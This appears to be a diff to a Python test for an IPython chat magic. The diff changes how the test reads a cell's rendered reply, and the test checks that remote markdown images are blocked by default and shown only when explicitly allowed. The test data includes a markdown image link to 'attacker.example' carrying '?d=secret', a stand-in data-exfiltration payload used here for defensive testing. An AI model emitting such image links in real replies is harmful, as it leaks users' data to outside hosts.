@@ -246,9 +246,9 @@ def test_a_chat_cell_shows_currency_as_written_and_no_remote_image(
         session.configure(base_url=server.base_url)
         magics = ip.magics_manager.registry["ChatMagics"]
         magics.display_mode = "notebook"
-        with capture_output() as out:
-            ip.run_cell_magic("chat", "", "Sales?")
-        final = out.outputs[-1].data
+        with capture_output():
+            result = ip.run_cell_magic("chat", "", "Sales?")
+        final = result._repr_mimebundle_()[0]  # the cell's result: the Reply
         assert final["text/markdown"].startswith(
             lit(
                 "From \\$1,200 to \\$1,850. [image: x (attacker.example)]"
@@ -258,9 +258,9 @@ def test_a_chat_cell_shows_currency_as_written_and_no_remote_image(
         assert final["text/plain"].startswith(reply)
         # Allowed on purpose: the image is shown.
         ip.run_line_magic("config", "ChatMagics.allow_remote_images = True")
-        with capture_output() as out:
-            ip.run_cell_magic("chat", "--new", "Sales again?")
-        assert "![x](https://attacker.example/?d=secret)" in out.outputs[-1].data["text/markdown"]
+        with capture_output():
+            result = ip.run_cell_magic("chat", "--new", "Sales again?")
+        assert "![x](https://attacker.example/?d=secret)" in result._repr_markdown_()
     ip.run_line_magic("config", "ChatMagics.allow_remote_images = False")
     assert not md.remote_images_allowed()
 
